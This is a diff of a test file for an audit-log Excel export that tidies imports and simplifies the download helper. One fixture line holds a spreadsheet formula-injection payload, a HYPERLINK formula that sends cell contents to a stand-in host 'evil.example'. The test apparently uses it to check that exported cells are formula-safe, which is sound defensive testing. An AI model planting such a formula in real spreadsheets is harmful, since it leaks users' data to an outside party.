@@ -1,10 +1,7 @@
-import axios from 'axios';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { writeAudit } from '../../server/audit/auditLog';
-import { verifyAuditChain } from '../../server/audit/auditLog';
+import { verifyAuditChain, writeAudit } from '../../server/audit/auditLog';
 import type { AuditFilters } from '../../shared/api/audit';
-import { createApiClient } from '../../shared/client';
 import { failure, startTestServer, type TestServer } from './support/testServer';
 
 // A4: the audit log exported as a real .xlsx with the list's filters, formula-safe cells, and the export audited.
@@ -13,12 +10,8 @@ describe('audit export (A4)', () => {
   let admin: string;
   const injected = '=HYPERLINK("https://evil.example/?x="&A1,"klik")';
 
-  /**
-   * The workbook's bytes, through the app's own client. Over axios' fetch adapter, as in the renderer: its Node
-   * adapter hands a file over as a Node Buffer, which the client does not take for an ArrayBuffer.
-   */
-  const download = (query: AuditFilters = {}, token = admin) =>
-    createApiClient({ baseUrl: () => s.url, token: () => token }, axios.create({ adapter: 'fetch' })).call('audit.export', { query });
+  /** The workbook's bytes, through the app's own client. */
+  const download = (query: AuditFilters = {}, token = admin) => s.client(token).call('audit.export', { query });
 
   async function readSheet(bytes: ArrayBuffer) {
     const wb = new ExcelJS.Workbook();
